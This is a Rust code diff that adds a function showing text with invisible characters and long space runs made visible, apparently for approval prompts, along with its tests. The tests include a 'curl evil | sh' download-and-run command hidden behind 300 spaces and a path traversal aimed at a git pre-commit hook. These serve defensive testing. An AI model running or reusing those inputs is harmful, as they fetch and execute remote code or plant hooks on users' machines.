@@ -12,6 +12,67 @@ pub(crate) fn shorten(text: &str, limit: usize) -> String {
     }
 }
 
+/// Bytes as lowercase hex (digests in ids and fingerprints).
+#[cfg(feature = "server")]
+pub(crate) fn hex(bytes: &[u8]) -> String {
+    use std::fmt::Write;
+    bytes
+        .iter()
+        .fold(String::with_capacity(bytes.len() * 2), |mut out, b| {
+            let _ = write!(out, "{b:02x}");
+            out
+        })
+}
+
+/// Text as a person must see it in a question: control and invisible
+/// characters escaped (`\n`, `\u{202e}`), a run of more than three spaces
+/// shown as its count (`[300 spaces]`), and past `limit` characters cut in
+/// the middle, so that its end always shows.
+pub(crate) fn visible(text: &str, limit: usize) -> String {
+    use std::fmt::Write;
+    let mut out = String::with_capacity(text.len().min(limit * 2));
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            ' ' => {
+                let mut run = 1;
+                while chars.next_if_eq(&' ').is_some() {
+                    run += 1;
+                }
+                if run > 3 {
+                    let _ = write!(out, "[{run} spaces]");
+                } else {
+                    out.extend(std::iter::repeat_n(' ', run));
+                }
+            }
+            '\n' => out.push_str("\\n"),
+            '\t' => out.push_str("\\t"),
+            '\r' => out.push_str("\\r"),
+            c if c.is_control() || is_invisible(c) => {
+                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
+            }
+            c => out.push(c),
+        }
+    }
+    let count = out.chars().count();
+    if count <= limit {
+        return out;
+    }
+    let head = limit * 3 / 5;
+    let tail = limit.saturating_sub(head);
+    let start: String = out.chars().take(head).collect();
+    let end: String = out.chars().skip(count - tail).collect();
+    format!("{start} …[{} more characters]… {end}", count - head - tail)
+}
+
+/// Characters that show as nothing, or reorder what follows: zero-width
+/// ones, bidirectional controls, the byte-order mark, the soft hyphen.
+fn is_invisible(c: char) -> bool {
+    matches!(c,
+        '\u{00ad}' | '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
+        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
 /// The integer a float stands for: `Some` when it is whole and inside the
 /// 64-bit range (`3.0` → `3`), `None` for `3.5`, `1e19`, NaN and infinities.
 pub(crate) fn exact_integer(x: f64) -> Option<i64> {
@@ -136,5 +197,24 @@ mod tests {
                 "{input}"
             );
         }
+    }
+
+    #[test]
+    fn what_a_question_shows_cannot_hide() {
+        assert_eq!(visible("plain text", 200), "plain text");
+        assert_eq!(
+            visible(&format!("x{}; curl evil | sh", " ".repeat(300)), 200),
+            "x[300 spaces]; curl evil | sh"
+        );
+        assert_eq!(
+            visible("a\nb\tc\u{202e}d\u{1b}", 200),
+            "a\\nb\\tc\\u{202e}d\\u{1b}"
+        );
+        let long = format!("archive/{}../.git/hooks/pre-commit", "./".repeat(200));
+        let shown = visible(&long, 100);
+        assert!(shown.ends_with("../.git/hooks/pre-commit"), "{shown}");
+        assert!(shown.starts_with("archive/./"), "{shown}");
+        assert!(shown.contains("more characters"), "{shown}");
+        assert!(shown.chars().count() < 140, "{shown}");
     }
 }
